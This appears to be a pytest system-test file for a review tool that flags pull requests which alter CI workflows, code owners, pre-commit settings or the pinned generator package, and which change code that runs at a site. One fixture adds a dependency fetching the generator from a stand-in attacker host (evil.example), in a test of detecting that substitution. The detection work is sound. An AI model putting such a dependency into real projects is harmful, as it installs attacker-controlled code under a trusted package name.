"""Changes of what checks a pull request: workflows, owners, the required and the installed gen."""

import json
from pathlib import Path
from typing import Any

import pytest
from history import commit, git, replace, spec
from running import Gen

from generator import __version__

pytestmark = pytest.mark.system


def write(path: str, text: str) -> None:
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_text(text)


def findings(gen: Gen, *revisions: str) -> list[dict[str, Any]]:
    report = json.loads(gen("review", *revisions, "--format", "json").out)
    return list(report["findings"])


def proposed(gen: Gen, path: str, before: str, after: str) -> list[dict[str, Any]]:
    """Return the findings of a change of a file, which are the same before and after its commit."""
    if before:
        write(path, before)
    commit("Before the branch")
    git("switch", "--quiet", "--create", "proposal")
    write(path, after)
    in_work_tree = findings(gen, "main")
    commit("Proposal")
    # A user sees before the push the same report as CI prints later.
    assert findings(gen, "main", "proposal") == in_work_tree
    return in_work_tree


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/gen.yml",
        ".github/actions/x/run.sh",
        "action.yml",
        # Who has to approve a change of the specs.
        ".github/CODEOWNERS",
        ".gitlab-ci.yml",
        # It names the gen that runs before a commit.
        ".pre-commit-config.yaml",
        ".gen/config.yaml",
        "deploy/.gen/config.yaml",
    ],
)
def test_a_change_of_the_checks_themselves_is_a_finding_of_trust(
    reading_gen: Gen, path: str
) -> None:
    text = f'required_version: "{__version__}"\n'
    [finding] = proposed(reading_gen, path, text, f"{text}# more\n")
    assert (finding["rule"], finding["file"]) == ("trust", path)
    assert finding["details"] == ["added # more"]


@pytest.mark.parametrize(
    ("path", "before", "after", "details"),
    [
        pytest.param(
            "requirements.txt",
            "hpc-sitegen==0.1.0\n",
            "hpc-sitegen==0.2.0\n",
            ["hpc-sitegen==0.1.0 → hpc-sitegen==0.2.0"],
            id="requirements",
        ),
        pytest.param(
            "ci/requirements-dev.txt",
            # PEP 503: the name may be written with a dash, a dot or an underscore.
            "x==1\nhpc_sitegen==0.1.0 \\\n    --hash=sha256:aa\n",
            "x==1\nhpc_sitegen==0.1.0 \\\n    --hash=sha256:bb\n",
            ["hpc_sitegen==0.1.0 --hash=sha256:aa → hpc_sitegen==0.1.0 --hash=sha256:bb"],
            id="a hash",
        ),
        pytest.param(
            "uv.lock",
            '[[package]]\nname = "hpc-sitegen"\nversion = "1"\n\n[[package]]\nname = "a"\n',
            '[[package]]\nname = "hpc-sitegen"\nversion = "2"\n\n[[package]]\nname = "a"\n',
            [
                '[[package]] name = "hpc-sitegen" version = "1"'
                ' → [[package]] name = "hpc-sitegen" version = "2"'
            ],
            id="a lock of uv",
        ),
        pytest.param(
            "pyproject.toml",
            "",
            # Code of any repository, under the name of gen.
            'dependencies = ["hpc-sitegen @ git+https://evil.example/x"]\n',
            ['added dependencies = ["hpc-sitegen @ git+https://evil.example/x"]'],
            id="a project",
        ),
    ],
)
def test_another_gen_in_a_list_of_packages_is_a_finding_of_trust(
    reading_gen: Gen, path: str, before: str, after: str, details: list[str]
) -> None:
    [finding] = proposed(reading_gen, path, before, after)
    assert (finding["rule"], finding["message"]) == ("trust", "installs another gen")
    assert finding["details"] == details


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        pytest.param(
            "requirements.txt", "hpc-sitegen==1\na==1\n", "hpc-sitegen==1\na==2\n", id="a"
        ),
        pytest.param("README.md", "hpc-sitegen 1\n", "hpc-sitegen 2\n", id="no list of packages"),
        pytest.param(".github/dependabot.yml", "a: 1\n", "a: 2\n", id="no workflow"),
        pytest.param("src/action.py", "a = 1\n", "a = 2\n", id="no action"),
        # The handbook is a source of the spec, and no command of it.
        pytest.param("docs/login.md", "a\n", "b\n", id="a page that a spec has as its source"),
        pytest.param("opt/enter", "a\n", "b\n", id="a file whose name alone a command has"),
        pytest.param("docs/my.pod", "a\n", "b\n", id="documentation of Perl"),
    ],
)
def test_other_packages_and_files_are_not_reported(
    reading_gen: Gen, path: str, before: str, after: str
) -> None:
    assert proposed(reading_gen, path, before, after) == []


def test_changed_code_of_a_project_is_one_line_of_access(
    writing_gen: Gen, reading_gen: Gen
) -> None:
    assert writing_gen("project", "pipelines", "--site", str(spec("aster"))).status == 0
    commit("A project")
    git("switch", "--quiet", "--create", "proposal")
    code = sorted(Path("pipelines/src/pipelines/defs").rglob("*.py"))
    for path in code[:2]:
        path.write_text(f"{path.read_text()}\n# changed\n")
    [finding] = findings(reading_gen, "main")
    assert (finding["rule"], finding["details"]) == ("access", [])
    assert finding["message"] == (
        f"code that runs at the site changed ({code[0]}, {code[1]});"
        " gen check compares only the modules beside sites/, and the rest is the team's own"
    )
    assert reading_gen("check").status == 0


@pytest.mark.parametrize(
    ("path", "is_reported"),
    [
        pytest.param("src/pipelines/defs/ingest/defs.yaml", True, id="a component"),
        pytest.param("src/pipelines/payloads/run", True, id="a program without a suffix"),
        pytest.param("pyproject.toml", True, id="the settings that name the package"),
        pytest.param("src/pipelines/README.md", False, id="a page"),
        pytest.param("tests/test_more.py", False, id="a test"),
    ],
)
def test_every_file_of_a_project_that_runs_is_its_code(
    writing_gen: Gen, reading_gen: Gen, path: str, is_reported: bool
) -> None:
    assert writing_gen("project", "pipelines", "--site", str(spec("aster"))).status == 0
    commit("A project")
    file = Path("pipelines", path)
    before = file.read_text() if file.exists() else ""
    write(str(file), f"{before}# changed\n")
    messages = [(item["rule"], item["message"]) for item in findings(reading_gen, "main")]
    expected = []
    if is_reported:
        text = (
            f"code that runs at the site changed ({file}); gen check compares only the modules"
            " beside sites/, and the rest is the team's own"
        )
        expected = [("access", text)]
    assert messages == expected


def test_code_outside_of_a_project_is_not_reported(reading_gen: Gen) -> None:
    assert proposed(reading_gen, "tools/x.py", "a = 1\n", "a = 2\n") == []


def test_a_review_below_the_top_of_the_repository_finds_specs_above(
    reading_gen: Gen, monkeypatch: pytest.MonkeyPatch
) -> None:
    replace(spec("cedar"), "partition: batch", "partition: wide")
    monkeypatch.chdir("teams/a")
    [finding] = findings(reading_gen, "main")
    assert (finding["rule"], finding["path"]) == ("access", "../../site_specs/cedar.yaml")
